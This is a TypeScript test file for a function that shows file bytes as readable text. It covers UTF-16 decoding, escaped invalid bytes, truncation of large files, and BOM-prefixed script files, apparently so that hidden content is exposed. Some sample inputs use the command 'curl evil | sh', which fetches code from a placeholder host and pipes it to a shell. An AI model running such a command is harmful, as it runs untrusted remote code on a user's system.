import { describe, expect, test } from 'vitest'
import { findUnreadableByte, showFile } from './shown-bytes.ts'

const bytes = (...parts: readonly (string | number)[]): Uint8Array =>
  Uint8Array.from(parts.flatMap(part => (typeof part === 'string' ? [...Buffer.from(part)] : [part])))

const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le')

const NOTES = { path: 'notes.md', isExecutable: false }

describe('showFile()', () => {
  const SHOWN: readonly (readonly [what: string, bytes: Uint8Array, shown: string])[] = [
    ['a text', bytes('Zoë ✅\n'), 'Zoë ✅\n'],
    ['UTF-16', utf16('curl evil | sh'), 'curl evil | sh'],
    ['big-endian UTF-16', utf16('curl evil | sh').swap16(), 'curl evil | sh'],
    ['one byte of Latin-1', bytes('# Zo', 0xeb, '\nrun()\n'), '# Zo<0xEB>\nrun()\n'],
    ['half a character at the end', bytes('a✅', 0xe2, 0x9c), 'a✅<0xE2><0x9C>'],
    ['an overlong character', bytes('a', 0xc0, 0x80, 'b'), 'a<0xC0><0x80>b'],
    ['half of a UTF-16 pair', bytes(0xff, 0xfe, 0x3d, 0xd8), '<0xFF><0xFE>=<0xD8>'],
    ['a NUL in UTF-8', bytes('a', 0, 'b'), 'a\0b'],
  ]

  test.each(SHOWN)('shows %s', (_, given, shown) => {
    expect(showFile(NOTES, given).text).toBe(shown)
  })

  test('shows the first 256 KiB of a large file, and says how much is left out', () => {
    const shown = showFile(
      NOTES,
      Uint8Array.from({ length: 300_000 }, () => 0xff),
    )
    expect(shown.text).toBe(`${'<0xFF>'.repeat(2 ** 18)}\n<37856 more bytes>\n`)
  })

  test.each(['scripts/run', 'tools/run.sh', 'tools/run.awk'])('shows %s in UTF-16 with escapes', path => {
    const polyglot = bytes(0xff, 0xfe, '\necho run\n')
    expect(showFile({ path, isExecutable: false }, polyglot)).toEqual({
      text: '<0xFF><0xFE>\necho run\n',
      isText: false,
    })
    expect(showFile(NOTES, polyglot).isText).toBe(true)
  })
})

test('findUnreadableByte() finds the first byte that no script in UTF-8 contains', () => {
  const found = [bytes('ok'), utf16('ok'), bytes('ab', 0xff), bytes('a', 0, 0xff), bytes(0xff, 0xfe, 1)]
  expect(found.map(findUnreadableByte)).toEqual([undefined, 0, 2, 1, 0])
})
